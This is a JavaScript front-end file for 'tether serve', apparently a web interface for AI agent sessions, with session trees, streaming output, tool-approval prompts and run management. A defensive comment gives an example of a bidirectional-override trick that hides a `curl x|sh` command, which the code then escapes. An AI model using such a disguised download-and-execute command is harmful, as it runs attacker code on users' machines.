// The page of `tether serve`: plain script, no dependencies, nothing loaded from elsewhere.
// Text from sessions is only ever set with textContent; the rendered conversation (escaped by
// the server's renderer) is shown in a sandboxed frame that runs no script.
"use strict";

const TOKEN_KEY = "tether-token";
(function takeToken() {
  // `#token=...` in the address: the fragment is never sent to the server or in a Referer.
  const match = /(?:^#|&)token=([^&]+)/.exec(location.hash);
  if (match) {
    sessionStorage.setItem(TOKEN_KEY, decodeURIComponent(match[1]));
    history.replaceState(null, "", location.pathname + location.search);
  }
})();
const token = () => sessionStorage.getItem(TOKEN_KEY);

const $ = (id) => document.getElementById(id);
let current = null;
let source = null;
// What went wrong with the follow stream, said in the notice until it is followed again:
// "stopped" (the connection was lost: EventSource tries again by itself, every `retry`), or
// what the server said before it ended the stream, which is tried again too: "error" (its
// store failed), "behind" (this page fell too far behind, `dropped`).
let trouble = null;
let refreshTimer = null;

function notice(text) { $("notice").textContent = text || ""; }

async function api(method, path, body) {
  const headers = { "Content-Type": "application/json" };
  if (token()) headers.Authorization = "Bearer " + token();
  const response = await fetch(path, {
    method, headers, body: body === undefined ? undefined : JSON.stringify(body),
  });
  const isJson = (response.headers.get("content-type") || "").startsWith("application/json");
  const data = isJson ? await response.json() : await response.text();
  if (!response.ok) {
    const message = isJson && data.error ? data.error : response.statusText;
    throw new Error(response.status === 401 ? message + " (open the page as /#token=YOUR_TOKEN)" : message);
  }
  return data;
}

async function loadSessions() {
  const q = $("search").value.trim();
  try {
    const data = await api("GET", "/api/sessions?limit=200" + (q ? "&q=" + encodeURIComponent(q) : ""));
    const list = $("sessions");
    list.replaceChildren();
    for (const session of data.sessions) {
      const item = document.createElement("li");
      item.dataset.id = session.id;
      item.textContent = session.title || session.firstPrompt || session.id;
      const small = document.createElement("small");
      small.textContent = new Date(session.updated).toLocaleString() + " · " + session.messageCount + " messages";
      item.append(small);
      if (session.id === current) item.classList.add("current");
      item.addEventListener("click", () => openSession(session.id));
      list.append(item);
    }
    notice("");
  } catch (error) { notice(error.message); }
}

const sessionPath = (id, rest) => "/api/sessions/" + encodeURIComponent(id) + (rest || "");

let renderSeq = 0;
async function renderConversation() {
  if (!current) return;
  const seq = ++renderSeq;
  try {
    const [page, tree] = await Promise.all([
      api("GET", sessionPath(current, "/html")), api("GET", sessionPath(current, "/tree")),
    ]);
    if (seq !== renderSeq) return;  // a later render is under way: an older answer must not win
    $("conversation").srcdoc = page;
    renderTree(tree);
  } catch (error) { notice(error.message); }
}

// The session tree: messages only; a linear stretch stays flat, each fork nests its branches.
function renderTree(data) {
  const byId = new Map(data.nodes.map((node) => [node.id, node]));
  const children = new Map();
  for (const node of data.nodes) {
    const key = node.parentId && byId.has(node.parentId) ? node.parentId : "";
    if (!children.has(key)) children.set(key, []);
    children.get(key).push(node.id);
  }
  const onPath = new Set(data.currentPath);
  const item = (node) => {
    const li = document.createElement("li");
    li.className = "node" + (onPath.has(node.id) ? " current" : "") + (node.id === data.leafId ? " leaf" : "");
    li.dataset.id = node.id;
    const label = document.createElement("span");
    label.textContent = node.role + ": " + node.preview;
    const go = document.createElement("button");
    go.type = "button"; go.className = "switch"; go.textContent = "Switch";
    go.addEventListener("click", () => branchTo(node.id));
    const fork = document.createElement("button");
    fork.type = "button"; fork.className = "fork"; fork.textContent = "Fork";
    fork.addEventListener("click", () => forkAt(node.id));
    li.append(label, go, fork);
    return li;
  };
  const chain = (start, list) => {
    let next = [start];
    while (next.length === 1) {
      const node = byId.get(next[0]);
      if (node.role) list.append(item(node));
      next = children.get(node.id) || [];
    }
    for (const child of next) {
      const branch = document.createElement("li");
      branch.className = "branch";
      const nested = document.createElement("ul");
      branch.append(nested);
      list.append(branch);
      chain(child, nested);
    }
  };
  const tree = $("tree");
  tree.replaceChildren();
  const roots = children.get("") || [];
  if (roots.length === 1) chain(roots[0], tree);
  else for (const root of roots) { const li = document.createElement("li"); li.className = "branch"; const ul = document.createElement("ul"); li.append(ul); tree.append(li); chain(root, ul); }
}

async function branchTo(entryId) {
  try {
    await api("POST", sessionPath(current, "/branch"), { entryId });
    await renderConversation();
    notice("");
  } catch (error) { notice(error.message); }
}

async function forkAt(entryId) {
  try {
    const data = await api("POST", sessionPath(current, "/fork"), { entryId });
    await openSession(data.sessionId);
    loadSessions();
  } catch (error) { notice(error.message); }
}

// As the terminal shows them (tether.cli.terminal_text): control characters but tab and newline,
// and the bidirectional overrides and isolates, written as escapes: U+202E shows the rest of a
// line reversed, so `echo "\u202e";curl x|sh #"` read as an echo of garbage (`echo "lruc;" ...
// "# hs|x`) where it pipes a download to sh.
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g;
const visible = (text) => text.replace(CONTROL, (c) => {
  const code = c.charCodeAt(0);
  return code < 0x100 ? "\\x" + code.toString(16).padStart(2, "0") : "\\u" + code.toString(16).padStart(4, "0");
});

function showApproval(approval) {
  if (document.getElementById("approval-" + approval.id)) return;
  const box = document.createElement("div");
  box.className = "approval";
  box.id = "approval-" + approval.id;
  const question = document.createElement("p");
  question.textContent = "Approve? " + visible(approval.question);
  const allow = document.createElement("button");
  allow.type = "button"; allow.className = "allow"; allow.textContent = "Allow";
  const deny = document.createElement("button");
  deny.type = "button"; deny.className = "deny"; deny.textContent = "Deny";
  const answer = async (yes) => {
    try {
      await api("POST", sessionPath(current, "/approvals/" + encodeURIComponent(approval.id)), { allow: yes });
      box.remove();
    } catch (error) { notice(error.message); }
  };
  allow.addEventListener("click", () => answer(true));
  deny.addEventListener("click", () => answer(false));
  box.append(question, allow, deny);
  $("approvals").append(box);
}

async function loadApprovals() {
  if (!current) return;
  try {
    const data = await api("GET", sessionPath(current, "/approvals"));
    for (const approval of data.approvals) showApproval(approval);
  } catch (error) { notice(error.message); }
}

function scheduleRender() {
  clearTimeout(refreshTimer);
  refreshTimer = setTimeout(renderConversation, 100);
}

// The live words shown, by answer: `key` of the one shown, stored answers whose `ended` has
// not come yet, and ended answers (entry id → key) whose entry has not come yet.
let live = { key: null, stored: new Set(), ends: new Map() };

function endLive(key) {
  if (key === live.key) {
    live.key = null;
    $("live").textContent = "";
  }
}

function showQueue(queue) {
  const lines = [
    ...queue.steering.map((text) => "Steering: " + text),
    ...queue.followUp.map((text) => "Follow-up: " + text),
  ];
  $("queued").textContent = lines.join("\n");
}

// Follow from `after` (the last entry the page has seen; null: from the start), so nothing
// stored between reading the session and joining its stream is missed.
function follow(id, after) {
  if (source) source.close();
  trouble = null;
  const query = new URLSearchParams();
  if (after) query.set("lastEventId", after);
  if (token()) query.set("access_token", token());
  source = new EventSource(sessionPath(id, "/events?" + query));
  // open: the server follows for this page from now on; what it asked before is fetched once
  source.addEventListener("open", () => {
    loadApprovals();
    if (trouble) back(id);
  });
  source.addEventListener("error", (event) => lost(event, id));
  // Deltas come straight from the run, entries once the store has them: the prompt's own entry
  // may land after the answer's first words, and an earlier answer's entry after the next
  // answer began. Each answer's live events carry its key, and its `ended` names the entry that
  // stores it: only that entry replaces that answer's streamed words.
  live = { key: null, stored: new Set(), ends: new Map() };
  source.addEventListener("entry", (event) => {
    const entry = JSON.parse(event.data);
    if (entry.type === "message" && entry.message.role === "assistant") {
      if (live.ends.has(entry.id)) endLive(live.ends.get(entry.id));
      else live.stored.add(entry.id);  // its `ended` may still be on the way
    }
    scheduleRender();
    loadSessions();
  });
  source.addEventListener("ended", (event) => {
    const data = JSON.parse(event.data);
    if (live.stored.has(data.entry)) endLive(data.key);
    else live.ends.set(data.entry, data.key);
  });
  // On joining (and rejoining: EventSource reconnects by itself) while a message streams, its
  // words so far come as one `partial`, which replaces what is shown; the deltas after it add on.
  source.addEventListener("partial", (event) => {
    const data = JSON.parse(event.data);
    live.key = data.key;
    $("live").textContent = data.text;
  });
  source.addEventListener("delta", (event) => {
    const data = JSON.parse(event.data);
    if (data.key !== live.key) {  // the next answer: the one before is in its entry, or soon
      live.key = data.key;
      $("live").textContent = "";
    }
    // a text node added, not `textContent +=`: that copied the whole answer again on each delta
    // (a 42,000-character answer in 3,000 deltas: 63,021,000 characters added, not 42,000)
    if (data.kind === "text_delta") $("live").append(data.delta);
  });
  // What waits for the run (pi shows it under the editor): steering, then follow-ups.
  source.addEventListener("queue", (event) => showQueue(JSON.parse(event.data)));
  source.addEventListener("status", (event) => {
    $("status").textContent = JSON.parse(event.data).running ? "running" : "idle";
  });
  source.addEventListener("deleted", () => { notice("the session was deleted"); source.close(); });
  source.addEventListener("approval", (event) => showApproval(JSON.parse(event.data)));
  source.addEventListener("approval_done", (event) => {
    const box = document.getElementById("approval-" + JSON.parse(event.data).id);
    if (box) box.remove();
  });
  source.addEventListener("leaf", () => scheduleRender());
  source.addEventListener("dropped", () => {
    trouble = "behind";
    notice("this page fell behind the session: catching up");
  });
}

function lost(event, id) {
  if (event.target !== source) return;  // a stream this page has left
  if (event.data !== undefined) {  // the server's own `error` event
    trouble = "error";
    notice("the server cannot follow this session: " + JSON.parse(event.data).error);
  } else if (trouble) {
    return;  // the server said why: the stream that ended after it is tried again, may be refused
  } else if (source.readyState === EventSource.CONNECTING) {
    trouble = "stopped";
    notice("the server stopped: this page follows the session again when it is back");
  } else {  // refused (no retry): the server says why to a plain request
    api("GET", sessionPath(id, "/state")).then(
      () => notice("the server stopped following this session: open it again"),
      (error) => notice(error.message),
    );
  }
}

// Followed again (the stream resumes after the last entry it brought): what the server knows
// now, as the run that was streaming may have ended with the server that ran it.
async function back(id) {
  trouble = null;
  notice("");
  $("live").textContent = "";
  scheduleRender();
  loadSessions();
  try {
    const state = await api("GET", sessionPath(id, "/state"));
    if (current === id) $("status").textContent = state.running ? "running" : "idle";
  } catch (error) { notice(error.message); }
}

async function openSession(id) {
  showSessions();
  current = id;
  $("title").textContent = id;
  $("live").textContent = "";
  $("queued").textContent = "";
  for (const item of $("sessions").children) item.classList.toggle("current", item.dataset.id === id);
  $("approvals").replaceChildren();
  $("status").textContent = "idle";  // the stream starts with the status when this server runs it
  let after = null;
  try {
    const tree = await api("GET", sessionPath(id, "/tree"));
    if (tree.nodes.length) after = tree.nodes[tree.nodes.length - 1].id;
  } catch (error) { notice(error.message); }
  if (current !== id) return;
  follow(id, after);
  await renderConversation();
}

async function send(event) {
  event.preventDefault();
  const message = $("prompt").value;
  if (!message.trim()) return;
  try {
    if (current) {
      const running = $("status").textContent === "running";
      await api("POST", sessionPath(current, "/prompt"),
        running ? { message, streamingBehavior: "steer" } : { message });
    } else {
      const data = await api("POST", "/api/sessions", { message });
      await openSession(data.sessionId);
      loadSessions();
    }
    $("prompt").value = "";
    notice("");
  } catch (error) { notice(error.message); }
}

async function submitRun() {
  const message = $("prompt").value;
  if (!current) { notice("choose a session to run the prompt on"); return; }
  if (!message.trim()) return;
  try {
    const data = await api("POST", "/api/runs", { sessionId: current, message });
    $("prompt").value = "";
    notice("");
    await showRuns();
    notice("submitted run " + data.runId);
  } catch (error) { notice(error.message); }
}

function seconds(value) {
  if (value === null || value === undefined) return "";
  return value < 60 ? value.toFixed(1) + " s" : Math.floor(value / 60) + " min " + Math.round(value % 60) + " s";
}

const FINISHED = new Set(["SUCCESS", "ERROR", "CANCELLED", "MAX_RECOVERY_ATTEMPTS_EXCEEDED"]);

async function loadRuns() {
  try {
    const data = await api("GET", "/api/runs");
    const body = $("runs").tBodies[0];
    body.replaceChildren();
    for (const run of data.runs) {
      const row = document.createElement("tr");
      row.dataset.id = run.id;
      const finished = FINISHED.has(run.status);
      const now = Date.now() / 1000;
      const duration = run.created ? (finished && run.updated ? run.updated : now) - run.created : null;
      const tokens = run.inputTokens === null ? "" : run.inputTokens + " / " + run.outputTokens;
      const cost = run.cost === null ? "" : "$" + run.cost.toFixed(4);
      const cells = [run.id, run.session || "", run.prompt || "", run.status, run.worker || "", seconds(duration), tokens, cost];
      const names = ["id", "session", "prompt", "status", "worker", "duration", "tokens", "cost"];
      cells.forEach((text, i) => {
        const cell = document.createElement("td");
        cell.className = names[i];
        cell.textContent = text;
        if (names[i] === "status" && run.error) cell.title = run.error;
        row.append(cell);
      });
      const actions = document.createElement("td");
      if (!finished) {
        const cancel = document.createElement("button");
        cancel.type = "button"; cancel.className = "cancel"; cancel.textContent = "Cancel";
        cancel.addEventListener("click", async () => {
          try { await api("POST", "/api/runs/" + encodeURIComponent(run.id) + "/cancel"); await loadRuns(); }
          catch (error) { $("runs-notice").textContent = error.message; }
        });
        actions.append(cancel);
      }
      row.append(actions);
      body.append(row);
    }
    $("runs-notice").textContent = "";
  } catch (error) { $("runs-notice").textContent = error.message; }
}

let runsTimer = null;
async function showRuns() {
  $("session-view").hidden = true;
  $("runs-view").hidden = false;
  $("tab-runs").classList.add("current");
  $("tab-sessions").classList.remove("current");
  await loadRuns();
  clearInterval(runsTimer);
  runsTimer = setInterval(loadRuns, 3000);
}

function showSessions() {
  clearInterval(runsTimer);
  $("runs-view").hidden = true;
  $("session-view").hidden = false;
  $("tab-sessions").classList.add("current");
  $("tab-runs").classList.remove("current");
}

// As pi's Esc: the queued steering and follow-ups come back into the prompt box (above what is
// typed there) and leave the queue, then the run stops; an abort alone would keep them queued
// for the next prompt, unseen here.
async function abort() {
  if (!current) return;
  try {
    const queue = await api("POST", sessionPath(current, "/clear-queue"));
    const texts = [...queue.steering, ...queue.followUp, $("prompt").value];
    $("prompt").value = texts.filter((t) => t.trim()).join("\n\n");
    await api("POST", sessionPath(current, "/abort"));
  }
  catch (error) { notice(error.message); }
}

document.addEventListener("DOMContentLoaded", () => {
  $("search").addEventListener("input", () => { clearTimeout(window.searchTimer); window.searchTimer = setTimeout(loadSessions, 200); });
  $("new-session").addEventListener("click", () => {
    showSessions();
    current = null;
    $("tree").replaceChildren();
    $("approvals").replaceChildren();
    if (source) source.close();
    $("title").textContent = "New session";
    $("conversation").srcdoc = "";
    $("prompt").focus();
  });
  $("prompt-form").addEventListener("submit", send);
  $("prompt").addEventListener("keydown", (event) => {
    if (event.key === "Enter" && (event.ctrlKey || event.metaKey)) $("prompt-form").requestSubmit();
  });
  $("abort").addEventListener("click", abort);
  $("submit-run").addEventListener("click", submitRun);
  $("tab-runs").addEventListener("click", showRuns);
  $("tab-sessions").addEventListener("click", showSessions);
  $("refresh-runs").addEventListener("click", loadRuns);
  loadSessions();
});
